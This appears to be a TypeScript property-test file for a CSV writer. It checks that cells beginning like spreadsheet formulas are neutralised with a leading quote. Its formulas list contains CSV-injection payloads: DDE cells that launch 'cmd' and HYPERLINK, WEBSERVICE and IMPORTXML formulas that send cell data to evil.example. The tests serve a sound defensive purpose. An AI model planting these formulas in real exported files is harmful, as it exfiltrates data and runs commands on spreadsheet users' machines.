import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guardCell, writeCsv } from '../../lambdas/domain/csv.ts';

/** Reads CSV letter by letter as RFC 4180 says, and throws at anything it does not allow. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  const readQuoted = (): string => {
    let cell = '';
    for (at += 1; ; at += 1) {
      if (at >= text.length) throw new Error('a quote is not closed');
      if (text[at] !== '"') cell += text[at];
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else break;
    }
    at += 1;
    return cell;
  };
  const readPlain = (): string => {
    const start = at;
    while (at < text.length && !/[",\r\n]/u.test(text[at] ?? '')) at += 1;
    if (text[at] === '"') throw new Error('a quote inside a plain cell');
    return text.slice(start, at);
  };
  while (at < text.length) {
    row.push(text[at] === '"' ? readQuoted() : readPlain());
    if (text[at] === ',') {
      at += 1;
      continue;
    }
    if (text.slice(at, at + 2) !== '\r\n') throw new Error(`a row ends wrongly at ${at}`);
    at += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** Cells that spreadsheets have run, from write-ups of CSV injection. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"見る")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "+1+cmd|' /C calc'!A0",
  '+81901234567',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

const letters = fc.constantFrom(...'=+-@"\'",;\r\n\t ,"a店0＝＋'.split(''));
const cell = fc.oneof(
  fc.string({ unit: letters }),
  fc.string({ unit: 'binary' }),
  fc.constantFrom(...formulas),
);

describe('a file of rows', () => {
  test('says the same to another reader, cell by cell', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 6 }), rows => {
        expect(readCsv(writeCsv(rows))).toEqual(rows.map(row => row.map(guardCell)));
      }),
    );
  });

  test('has no cell that begins like a formula', () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), row => {
        const [read = []] = readCsv(writeCsv([row]));
        expect(read.filter(text => /^[=+\-@\t\r\n＝＋－＠]/u.test(text))).toEqual([]);
        expect(read.map((text, place) => (text === row[place] ? text : text.slice(1)))).toEqual(row);
      }),
    );
  });

  test.each(formulas)('keeps %j from being run', formula => {
    expect(readCsv(writeCsv([[formula, 'x']]))).toEqual([[`'${formula}`, 'x']]);
  });

  test('leaves other cells as they are', () => {
    const row = ['渋谷店', '', "'=1", ' =1', '<5', '*', '12', '100円引, "大"'];
    expect(readCsv(writeCsv([row]))).toEqual([row]);
    expect(writeCsv([['a', '']])).toBe('"a",""\r\n');
  });
});
